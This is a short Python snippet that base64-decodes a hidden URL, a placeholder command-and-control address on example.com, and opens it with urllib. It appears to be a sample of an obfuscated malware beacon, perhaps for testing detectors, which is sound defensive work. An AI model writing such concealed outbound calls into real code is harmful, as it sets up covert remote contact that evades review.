import base64
import urllib.request

urllib.request.urlopen(base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlLmNvbS8=").decode())
